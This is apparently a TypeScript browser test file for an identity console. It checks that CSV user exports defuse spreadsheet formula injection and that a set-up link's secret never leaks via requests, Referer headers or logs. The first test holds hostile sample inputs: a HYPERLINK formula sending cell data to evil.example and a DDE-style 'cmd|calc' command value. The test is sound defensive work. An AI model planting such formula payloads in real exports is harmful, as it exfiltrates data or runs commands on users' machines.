/**
 * @module-tag slow
 * @module-tag browser
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { exportText } from '../../console/src/text/export.ts';
import { portalText } from '../../console/src/text/portal.ts';
import { providerText } from '../../console/src/text/provider.ts';
import { openConsole } from '../support/console.ts';
import { startTestServer, type TestServer, user } from '../support/server.ts';
import { createTenant } from '../support/tenant.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer('memory');
});
afterAll(() => server.stop());

test('a file that is downloaded runs nothing in a spreadsheet', async () => {
  const tenant = await createTenant(server);
  const hostile = [
    { userName: '=HYPERLINK("https://evil.example?"&A1)', displayName: '@SUM(1+1)' },
    { userName: '-2+3+cmd|calc', displayName: 'Grace "Amazing" Hopper, Rear Admiral' },
  ];
  for (const names of hostile)
    expect((await tenant.call('POST', '/Users', { body: user(names) })).status).toBe(201);
  const { page, go, button } = await openConsole({ server });
  await go(`/t/${tenant.tenant}/users`);
  const download = page.waitForEvent('download');
  await button(exportText.button).click();
  const file = await download;
  expect(file.suggestedFilename()).toBe(`users-${tenant.tenant}.csv`);
  const text = readFileSync(await file.path(), 'utf8');
  expect(text).toContain(`"'=HYPERLINK(""https://evil.example?""&A1)"`);
  expect(text).toContain(`'@SUM(1+1)`);
  expect(text).toContain(`'-2+3+cmd|calc`);
  expect(text).toContain('"Grace ""Amazing"" Hopper, Rear Admiral"');
  expect(text.startsWith('\uFEFF')).toBe(true);
  expect(text.slice(1).trimEnd().split('\r\n')).toHaveLength(1 + hostile.length);
  expect(text).not.toMatch(/(?:^|[,\n\uFEFF])"?[=+\-@\t\r]/u);
});

test('the secret of a set-up link is in no request but that of its page, and in no log', async () => {
  const tenant = await createTenant(server);
  const path = tenant.at(`/connections/${tenant.connection}/setup-links`);
  const { json } = await tenant.manage('POST', path, {});
  const secret = new URL(json.url).pathname.split('/').at(-1)!;
  expect(secret.length).toBeGreaterThan(30);
  const { page, context, button, settled } = await openConsole({ server, as: undefined });
  // Where the documentation of identity providers is.
  await context.route(
    (url) => url.host !== new URL(server.running.url).host,
    (route) => route.fulfill({ contentType: 'text/html', body: '<h1>Elsewhere</h1>' }),
  );
  const leaks: string[] = [];
  const seen: Promise<void>[] = [];
  let calls = 0;
  context.on('request', (request) => {
    const url = request.url();
    const isPage = request.isNavigationRequest() && url.split('?')[0] === json.url;
    if (!isPage && url.includes(secret)) leaks.push(url);
    const look = async (): Promise<void> => {
      const headers = await request.allHeaders();
      if (headers['x-setup-link'] === secret) calls += 1;
      const { referer } = headers;
      if (referer !== undefined) leaks.push(`${url} has the Referer ${referer}`);
    };
    seen.push(look().catch(() => undefined));
  });
  await page.goto(json.url);
  await settled();
  await page.getByRole('button', { name: 'Okta', exact: true }).first().click();
  await button(portalText.values.createAnother).click();
  await button(portalText.values.done).click();
  await page.waitForURL(/\?step=check$/u);
  await page.reload();
  await settled();
  await page.goto(`${json.url}?step=values`);
  await settled();
  await page.getByText(providerText.sources, { exact: true }).click();
  const [other] = await Promise.all([
    context.waitForEvent('page'),
    page.locator('a[target=_blank]').filter({ visible: true }).first().click(),
  ]);
  await other.getByRole('heading', { name: 'Elsewhere' }).waitFor();
  expect(await other.evaluate('[document.referrer, window.opener]')).toEqual(['', null]);
  await Promise.all(seen);
  expect(leaks).toEqual([]);
  expect(calls).toBeGreaterThan(3);
  expect(JSON.stringify(server.log)).not.toContain(secret);
  expect(await page.title()).not.toContain(secret);
  expect(await page.content()).not.toContain(secret);
});
